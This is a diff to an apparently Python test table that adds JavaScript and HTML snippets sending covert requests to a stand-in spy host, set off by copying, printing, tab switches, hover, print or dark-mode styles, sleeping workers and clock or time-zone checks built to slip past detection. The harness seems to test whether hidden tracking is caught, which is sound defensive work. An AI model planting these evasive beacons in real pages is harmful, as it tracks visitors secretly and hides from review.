@@ -43,6 +43,11 @@ _WORKER = (
     'new Worker(URL.createObjectURL(new Blob(["const t = performance.now(); setInterval(() => { '
     f"if (performance.now() - t > 6e4) fetch('{SPY}') }}, 500)\"])))"
 )
+_SLEEPER = (
+    'new SharedWorker(URL.createObjectURL(new Blob(["onconnect = () => setTimeout(() => '
+    f"fetch('{SPY}', {{mode: 'no-cors'}}), 20000)\"])))"
+)
+_CLOCKS = f"setTimeout(() => Math.abs(new Event('x').timeStamp - performance.now()) < 500 && {_SEND}, 5000)"
 _PARTS = (
     "const h = ['com', 'example', 'tp', 'spy'].slice(1).reverse().join('.'); "
     "new Image()['s' + 'rc'] = String.fromCharCode(104, 116, 116, 112, 115) + '://' + h + '/b'"
@@ -81,6 +86,22 @@ ATTACKS = (
     _attack("own", "to an own path that the server hands on, with a vendor's parameters", _OWN, seen=True, read=False),
     _attack("store", "from code in the folder's `node_modules`, which is not read as a file", "", seen=True, read=False,
             markup='<script src="/node_modules/spy/index.js"></script>'),
+    _attack("copy", "when the visitor copies text", f"addEventListener('copy', () => {_SEND})", seen=True),
+    _attack("print", "when the page is printed", f"addEventListener('beforeprint', () => {_SEND})", seen=True),
+    _attack("edge", "when the pointer goes to the window's edge",
+            f"document.addEventListener('mouseleave', () => {_SEND})", seen=True),
+    _attack("away", "20 seconds after the visitor has gone to another tab",
+            f"addEventListener('visibilitychange', () => document.hidden && setTimeout(() => {_SEND}, 20000))",
+            seen=True),
+    _attack("frame", "in a frame alone", "", seen=True,
+            markup=f'<iframe srcdoc="<script>if (top !== self) {_SEND}</script>"></iframe>'),
+    _attack("sleeper", "from a shared worker that has slept for 20 seconds", _SLEEPER, seen=True, read=False),
+    _attack("sheet", "by a style sheet for print", "", seen=True,
+            markup=f"<link rel=stylesheet media=print href='{SPY}'>"),
+    _attack("tick", "by a style of a ticked box", "", seen=True,
+            markup=f"<style>input:checked + i {{ background: url({SPY}) }}</style><input type=checkbox><i>x</i>"),
+    _attack("picture", "by a picture that gets its address when the pointer is over it", "", seen=True, read=False,
+            markup=f"<svg><image><set attributeName=href to='{SPY}' begin=mouseover /></image></svg>"),
     _attack("scroll", "once the visitor has scrolled, and then moved the pointer", _SCROLLED, seen=False, markup=_TALL),
     _attack("late", "after 90 seconds", f"setTimeout(() => {_SEND}, 90000)", seen=False),
     _attack("worker", "after a minute by the true clock, in a worker", _WORKER, seen=False),
@@ -97,7 +118,19 @@ ATTACKS = (
     _attack("native", "unless a function of the browser's was put in another's place", _if(_NATIVE), seen=False),
     _attack("trusted", "when a person presses a button, and no script", _TRUSTED, seen=False,
             markup="<button type=button>More</button>"),
-    _attack("copy", "when the visitor copies text", f"addEventListener('copy', () => {_SEND})", seen=False),
+    _attack("clocks", "unless the time of events and the page's clock differ", _CLOCKS, seen=False),
+    _attack("zone", "outside of one time zone", _if("!/London/.test(Intl.DateTimeFormat().resolvedOptions().timeZone)"),
+            seen=False),
+    _attack("back", "when the visitor comes back to the page", f"onpageshow = (event) => event.persisted && {_SEND}",
+            seen=False),
+    _attack("hover", "by a style of what the pointer is over", "", seen=False,
+            markup=f"<style>p:hover {{ background: url({SPY}) }}</style><p>Text</p>"),
+    _attack("printed", "by a style for print", "", seen=False,
+            markup=f"<style>@media print {{ body {{ background: url({SPY}) }} }}</style>"),
+    _attack("narrow", "by a style for narrow windows", "", seen=False,
+            markup=f"<style>@media (max-width: 600px) {{ body {{ background: url({SPY}) }} }}</style>"),
+    _attack("dark", "by a style for who prefers it dark", "", seen=False,
+            markup=f"<style>@media (prefers-color-scheme: dark) {{ body {{ background: url({SPY}) }} }}</style>"),
     _attack("quiet", "to an own path that the server hands on, with nothing that is any vendor's",
             "fetch('/metrics/z', {method: 'POST', body: document.title})", seen=False, read=False),
 )  # fmt: skip
